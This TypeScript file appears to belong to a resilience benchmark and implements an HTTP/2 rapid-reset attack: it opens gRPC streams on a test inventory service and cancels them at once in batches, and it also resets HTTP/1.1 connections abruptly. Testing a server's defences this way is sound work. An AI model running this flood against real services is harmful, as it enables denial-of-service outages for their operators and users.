import { flag, frame, frameType, lengthPrefixed } from "../../bench/frames.ts";
import { callHeaders, grpcFields, openPeer, openSocket, resetFrame } from "./peer.ts";
import { type AttackOptions, type AttackResult, createPace, Tally } from "./target.ts";

const path = "/holdfast.v1.InventoryService/GetStock";
/** GetStockRequest { sku: "a" } */
const message = Buffer.from([0x12, 0x01, 0x61]);
/** Resets that are sent at once. */
const batchCount = 20;

/** Opens calls and breaks them off at once, on both doors: half of them with their whole request, so that they begin. */
export async function resetRapidly({ target, count, perSecond, dice }: AttackOptions): Promise<AttackResult> {
  const tally = new Tally();
  const pace = createPace(perSecond);
  const half = Math.floor(count / 2);

  async function overHttp2(port: number, contentType: string, body: Buffer): Promise<void> {
    const fields = grpcFields(path).map(
      ([name, value]) => [name, name === "content-type" ? contentType : value] as const,
    );
    for (let sent = 0; sent < half; ) {
      const peer = await openPeer({ port, ca: target.ca });
      let isEnded = false;
      void peer.ended.then(() => {
        isEnded = true;
        tally.add("connections closed by the server");
      });
      for (let stream = 1; sent < half && !isEnded; sent += batchCount) {
        const frames: Buffer[] = [];
        for (let index = 0; index < batchCount; index += 1, stream += 2) {
          frames.push(callHeaders(stream, fields));
          if (dice.between(0, 1) === 1) frames.push(frame(frameType.data, flag.endStream, stream, body));
          frames.push(resetFrame(stream));
        }
        peer.send(...frames);
        await pace.next(batchCount);
      }
      peer.socket.destroy();
    }
    tally.add("resets", half);
  }

  async function overHttp1(port: number): Promise<void> {
    const head = `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 11\r\n\r\n`;
    for (let sent = 0; sent < half; sent += 1) {
      const socket = await openSocket({ port, ca: undefined });
      socket.write(dice.between(0, 1) === 1 ? `${head}{"sku":"a"}` : head);
      await pace.next();
      socket.resetAndDestroy();
    }
    tally.add("connections reset", half);
  }

  await Promise.all([
    overHttp2(target.grpcPort, "application/grpc", lengthPrefixed(message)),
    target.ca === undefined ? overHttp1(target.httpPort) : overHttp2(target.httpPort, "application/proto", message),
  ]);
  return tally;
}
